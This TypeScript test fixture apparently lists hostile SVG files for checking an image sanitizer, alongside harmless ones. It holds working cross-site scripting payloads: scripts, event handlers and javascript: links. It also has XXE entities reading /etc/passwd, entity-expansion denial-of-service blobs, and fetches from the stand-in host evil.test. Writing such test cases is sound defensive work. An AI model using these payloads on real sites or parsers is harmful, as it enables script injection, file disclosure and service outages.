// Drawings that run scripts or fetch files when a browser opens them as a document. `alert(1)` and any request tell.

const NS = 'xmlns="http://www.w3.org/2000/svg"'
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const away = 'http://evil.test/fetched'
const box = '<rect width="200" height="200" fill="red"/>'

const svg = (inner: string, attributes = '') =>
  `<svg ${NS} ${XLINK} width="200" height="200" ${attributes}>${inner}</svg>`
const html = (inner: string) =>
  svg(
    `<foreignObject width="200" height="200"><div xmlns="http://www.w3.org/1999/xhtml">${inner}</div></foreignObject>`,
  )
const utf16 = (text: string, order: 'le' | 'be') => {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le')
  return order === 'le' ? bytes : bytes.swap16()
}

/** By what they try. */
export const hostileDrawings: Readonly<Record<string, string | Uint8Array>> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
  'a script under a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>`,
  'a script under a prefix declared on itself': svg(
    '<q:script xmlns:q="http://www.w3.org/2000/svg">alert(1)</q:script>',
  ),
  'a script of HTML': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script from elsewhere': svg(`<script href="${away}.js"/>`),
  'a script by xlink': svg(`<script xlink:href="${away}.js"/>`),
  'a script in data': svg('<script href="data:text/javascript,alert(1)"/>'),
  'a script in defs': svg('<defs><g><script>alert(1)</script></g></defs>'),
  'a script behind a comment': `<!-- <svg> --><?x y?><!DOCTYPE svg>${svg('<script>alert(1)</script>')}`,
  'a script in UTF-16, little-endian': utf16(svg('<script>alert(1)</script>'), 'le'),
  'a script in UTF-16, big-endian': utf16(svg('<script>alert(1)</script>'), 'be'),
  'a script in Shift JIS': `<?xml version="1.0" encoding="Shift_JIS"?>${svg('<script>alert(1)</script>')}`,
  onload: svg(box, 'onload="alert(1)"'),
  'onload in single quotes over lines': svg(box, "onload\n=\n'alert(1)'"),
  'onload by references': svg(box, 'onload="&#97;lert(1)"'),
  onclick: svg('<rect width="200" height="200" onclick="alert(1)"/>'),
  onmouseover: svg('<rect width="200" height="200" onmouseover="alert(1)"/>'),
  'onfocus with autofocus': svg(
    '<rect width="200" height="200" tabindex="0" autofocus="" onfocus="alert(1)"/>',
  ),
  onbegin: svg('<animate attributeName="x" begin="0s" dur="1s" onbegin="alert(1)"/>'),
  onend: svg('<set attributeName="x" begin="0s" dur="0.01s" onend="alert(1)"/>'),
  onrepeat: svg('<animate attributeName="x" begin="0s" dur="0.01s" repeatCount="2" onrepeat="alert(1)"/>'),
  'an image that fails': svg(`<image href="data:image/png,x" onerror="alert(1)"/>`),
  'a link to javascript:': svg(`<a href="javascript:alert(1)">${box}</a>`),
  'a link by xlink': svg(`<a xlink:href="javascript:alert(1)">${box}</a>`),
  'a link with a tab in it': svg(`<a href="java&#9;script:alert(1)">${box}</a>`),
  'a link in capitals behind a control': svg(
    `<a href="&#1;JaVaScRiPt:alert(1)">${box}</a>`.replace('&#1;', '&#10;'),
  ),
  'a link under another prefix': `<svg ${NS} xmlns:l="http://www.w3.org/1999/xlink" width="200" height="200"><a l:href="javascript:alert(1)">${box}</a></svg>`,
  'a link that is animated': svg(
    `<a id="a" href="#"><animate attributeName="href" values="javascript:alert(1)"/>${box}</a>`,
  ),
  'a link that is set': svg(
    `<a href="#"><set attributeName="xlink:href" to="javascript:alert(1)" begin="0s"/>${box}</a>`,
  ),
  'a frame': html(`<iframe src="javascript:parent.alert(1)"></iframe>`),
  'a frame with a document': html(`<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`),
  'a frame from elsewhere': html(`<iframe src="${away}.html"></iframe>`),
  'a picture of HTML that fails': html('<img src="data:image/png,x" onerror="alert(1)"/>'),
  'a picture of HTML from elsewhere': html(`<img src="${away}.png"/>`),
  'a set of pictures': html(`<img srcset="${away}.png 1x"/>`),
  'an object': html(`<object data="${away}.html"></object>`),
  'an embed': html(`<embed src="${away}.html"/>`),
  'a video': html(`<video src="${away}.mp4" poster="${away}.png"></video>`),
  'a sound': html(`<audio src="${away}.mp3" autoplay=""></audio>`),
  'a style sheet': html(`<link rel="stylesheet" href="${away}.css"/>`),
  'a refresh': html(`<meta http-equiv="refresh" content="0;url=${away}"/>`),
  'an input': html('<input autofocus="" onfocus="alert(1)"/>'),
  details: html('<details open="" ontoggle="alert(1)"><summary>x</summary>y</details>'),
  'a body': html('<body onload="alert(1)" background="http://evil.test/fetched"/>'),
  'HTML right in the drawing': svg(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${away}.png"/>`),
  'a frame right in the drawing': svg(
    `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:parent.alert(1)"/>`,
  ),
  'an image from elsewhere': svg(`<image width="9" height="9" href="${away}.png"/>`),
  'an image by xlink': svg(`<image width="9" height="9" xlink:href="//evil.test/fetched.png"/>`),
  'an image beside': svg(`<image width="9" height="9" href="fetched.png"/>`),
  'a filter’s image': svg(
    `<filter id="f"><feImage href="${away}.png"/></filter><rect width="99" height="99" filter="url(#f)"/>`,
  ),
  'a use from elsewhere': svg(`<use href="/fetched.svg#a"/>`),
  'a fill from elsewhere': svg(`<rect width="99" height="99" fill="url(/fetched.svg#a)"/>`),
  'a mask from elsewhere': svg(`<rect width="99" height="99" mask="url('/fetched.svg#a')"/>`),
  'a filter from elsewhere': svg(`<rect width="99" height="99" style="filter:url(/fetched.svg#a)"/>`),
  'an import': svg(`<style>@import "${away}.css";</style>${box}`),
  'an import by url': svg(`<style>@import url(${away}.css);</style>${box}`),
  'an import in CDATA': svg(`<style><![CDATA[@import "${away}.css";]]></style>${box}`),
  'an import with an escape': svg(`<style>@\\69mport "${away}.css";</style>${box}`),
  'a font': svg(
    `<style>@font-face{font-family:f;src:url(${away}.woff2)}text{font-family:f}</style><text y="50">x</text>`,
  ),
  'a background': svg(box, `style="background:url(${away}.png)"`),
  'a background with escapes': svg(box, `style="background:u\\72l(${away}.png)"`),
  'a background behind a comment': svg(box, `style="background:/*x*/url(/**/${away}.png)"`),
  'a set of backgrounds': svg(box, `style="background:image-set('${away}.png' 1x)"`),
  'a cursor': svg('<rect width="200" height="200" style="cursor:url(/fetched.png),auto"/>'),
  'a style sheet by instruction': `<?xml version="1.0"?><?xml-stylesheet href="${away}.css" type="text/css"?>${svg(box)}`,
  'a transformation by instruction': `<?xml version="1.0"?><?xml-stylesheet href="data:text/xsl,${encodeURIComponent('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></x:template></x:stylesheet>')}" type="text/xsl"?>${svg(box)}`,
  'a script in an entity': `<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>${svg('&s;')}`,
  'a script in an entity by references': `<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>${svg('&s;')}`,
  'javascript: in an entity': `<!DOCTYPE svg [<!ENTITY j "javascript:">]>${svg(`<a href="&j;alert(1)">${box}</a>`)}`,
  'a handler by declaration': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg(box)}`,
  'an entity in a file': `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg('<text>&e;</text>')}`,
  'an entity elsewhere': `<!DOCTYPE svg [<!ENTITY e PUBLIC "x" "${away}">]>${svg('<text>&e;</text>')}`,
  'an entity in UTF-16': utf16(
    `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg('<text>&e;</text>')}`,
    'le',
  ),
  'a parameter entity': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${away}"> %p;]>${svg(box)}`,
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]>${svg('<text>&j;</text>')}`,
  'a quadratic blow-up': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(50_000)}">]>${svg(`<text>${'&a;'.repeat(20_000)}</text>`)}`,
  'a script before broken XML': `<svg ${NS}><script>alert(1)</script><g></svg>`,
}

/** What drawing programs write, and no reason to refuse. */
export const harmlessDrawings: Readonly<Record<string, string>> = {
  plain: svg(box),
  'with gradients, uses and links': svg(
    `<defs><linearGradient id="g"><stop offset="0"/></linearGradient><g id="s">${box}</g></defs><use xlink:href="#s"/><rect fill="url(#g)" style="mask:url('#m')" width="9" height="9"/><a href="https://example.org/">${box}</a>`,
  ),
  'with a picture and a font inside': svg(
    `<style>@font-face{font-family:f;src:url(data:font/woff2;base64,AAAA)}</style><image width="9" height="9" href="data:image/png;base64,iVBORw0KGgo="/>`,
  ),
  'with text about scripts': svg(
    '<title>javascript: the good parts</title><text aria-label="image (1) url(x)">&lt;script&gt; onload="x" @import</text>',
  ),
  'with Illustrator’s entities': `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n<!-- a comment with ' in it -->\n]>\n<svg xmlns="&ns_svg;" width="9" height="9">${box}</svg>`,
  'with labels in HTML': html('<p style="color:red">A <b>label</b></p>'),
  'with an animation': svg(
    '<rect width="9" height="9"><animate attributeName="width" values="9;20" dur="1s"/></rect>',
  ),
  'with Inkscape’s names': `<svg ${NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:export-filename="a (1).png"><g inkscape:label="src (2)">${box}</g></svg>`,
}
